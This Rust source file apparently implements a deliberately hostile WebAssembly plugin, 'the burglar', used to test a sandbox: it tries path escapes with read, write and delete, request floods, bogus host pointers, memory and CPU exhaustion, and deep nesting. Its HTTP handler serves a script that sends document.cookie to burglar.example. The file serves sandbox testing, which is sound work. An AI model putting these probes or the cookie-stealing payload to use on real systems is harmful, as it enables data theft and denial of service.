//! The burglar: a plugin that tries every wall of the sandbox, and does whatever it is told.
//!
//! It knows no secret. Each function does plainly what an attacker would do: names a file outside, asks a hundred
//! thousand times, hands the host a pointer into nowhere. What stops it is never in here.

mod doors;
mod hunger;

use std::collections::BTreeMap;

use judicia_guest::host::HostFunction;
use judicia_guest::routes::Response;
use judicia_guest::{export, export_bytes, fail, Anything, Fail};
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

fn door(name: &str) -> Result<HostFunction, Fail> {
    doors::find(name).ok_or_else(|| fail!("not_found", "there is no door `{}`", name))
}

/// Hands bytes to the host as a request, and takes its answer.
fn ask(door: HostFunction, request: &[u8]) -> Value {
    // SAFETY: a host function of ABI 1 answers with memory that it has reserved for this plugin.
    unsafe { taken(door(request.as_ptr(), request.len())) }
}

/// The answer of a host function, which belongs to this plugin from now on.
unsafe fn taken(packed: u64) -> Value {
    let (ptr, len) = ((packed >> 32) as usize, packed as u32 as usize);
    if len == 0 {
        return Value::Null;
    }
    let answer = Vec::from_raw_parts(ptr as *mut u8, len, len);
    serde_json::from_slice(&answer).unwrap_or_else(|_| String::from_utf8_lossy(&answer).into())
}

/// Why the host did not do it; nothing where it did.
fn refusal(answer: &Value) -> Option<&str> {
    answer.get("error").map(|error| error["code"].as_str().unwrap_or("?"))
}

// --- anything, to any door ---------------------------------------------------------------------------------------

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Relay {
    to: String,
    #[serde(default)]
    request: Value,
    text: Option<String>,
    #[serde(default = "once")]
    n: u64,
}

fn once() -> u64 {
    1
}

#[derive(Serialize, Default)]
struct Tally {
    ok: u64,
    refused: BTreeMap<String, u64>,
    last: Value,
}

fn relay(order: Relay) -> Result<Tally, Fail> {
    let door = door(&order.to)?;
    let request = match order.text {
        Some(text) => text,
        None if order.request.is_null() => String::new(),
        None => order.request.to_string(),
    };
    let mut tally = Tally::default();
    for _ in 0..order.n {
        tally.last = ask(door, request.as_bytes());
        match refusal(&tally.last) {
            Some(code) => *tally.refused.entry(code.into()).or_default() += 1,
            None => tally.ok += 1,
        }
    }
    Ok(tally)
}

// --- out of the folder -------------------------------------------------------------------------------------------

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Place {
    path: String,
    #[serde(default = "root")]
    fd: u32,
}

fn root() -> u32 {
    3
}

fn break_in(place: Place) -> Result<BTreeMap<&'static str, String>, Fail> {
    let mut found = BTreeMap::new();
    for operation in ["read", "write", "list", "stat", "delete"] {
        let mut request = json!({ "path": place.path });
        if operation == "write" {
            request["content"] = "the burglar was here".into();
        }
        let answer = ask(door(&format!("judicia:files {}", operation))?, request.to_string().as_bytes());
        found.insert(operation, refusal(&answer).unwrap_or("ok").into());
    }
    Ok(found)
}

fn open(place: Place) -> Result<u32, Fail> {
    Ok(doors::open(place.fd, &place.path))
}

// --- out of the memory -------------------------------------------------------------------------------------------

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Claim {
    #[serde(default)]
    to: String,
    pointer: u32,
    #[serde(default)]
    length: u32,
}

fn point(claim: Claim) -> Result<Value, Fail> {
    let door = door(&claim.to)?;
    // SAFETY: none is promised. What lies there is for the host to find out.
    Ok(unsafe { taken(door(claim.pointer as *const u8, claim.length as usize)) })
}

fn peek(claim: Claim) -> Result<u8, Fail> {
    // SAFETY: none is promised. Beyond the memory it is a trap.
    Ok(unsafe { (claim.pointer as *const u8).read_volatile() })
}

/// `export!` packs where an answer is and cannot lie, so this export is written by hand.
///
/// # Safety
/// The host passes a region that it wrote.
#[cfg(target_arch = "wasm32")]
#[no_mangle]
pub unsafe extern "C" fn lie(request: *const u8, len: usize) -> u64 {
    let request = if len == 0 { &[] } else { std::slice::from_raw_parts(request, len) };
    match serde_json::from_slice::<Claim>(request) {
        Ok(claim) => u64::from(claim.pointer) << 32 | u64::from(claim.length),
        Err(_) => 0,
    }
}

// --- memory, time, depth -----------------------------------------------------------------------------------------

fn hoard(_: Anything) -> Result<u32, Fail> {
    Ok(hunger::hoard())
}

fn spin(_: Anything) -> Result<(), Fail> {
    hunger::spin()
}

fn nest(request: &[u8]) -> Result<Vec<u8>, Fail> {
    let depth: usize = serde_json::from_slice(request).map_err(|error| Fail::bad_request(error.to_string()))?;
    Ok(["[".repeat(depth), "]".repeat(depth)].concat().into_bytes())
}

// --- what others call ---------------------------------------------------------------------------------------------

fn on_event(event: Value) -> Result<(), Fail> {
    let again = json!({ "type": event["type"], "payload": event["payload"] });
    match refusal(&ask(door("judicia:events emit")?, again.to_string().as_bytes())) {
        Some(code) => Err(fail!(code, "the event goes no further")),
        None => Ok(()),
    }
}

fn on_http_request(_: Anything) -> Result<Response, Fail> {
    Ok(Response::html("<script>fetch('https://burglar.example/?' + document.cookie)</script>You have won!"))
}

export!(relay, break_in, open, point, peek, hoard, spin, on_event, on_http_request);
export_bytes!(nest);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_refusal_is_told_by_its_code() {
        assert_eq!(refusal(&json!({"error": {"code": "capability_denied", "message": ""}})), Some("capability_denied"));
        assert_eq!(refusal(&json!({"ok": {}})), None);
    }

    #[test]
    fn lists_are_as_deep_as_they_are_to_be() {
        assert_eq!(nest(b"3").unwrap(), b"[[[]]]");
        assert!(nest(b"-1").is_err());
    }
}
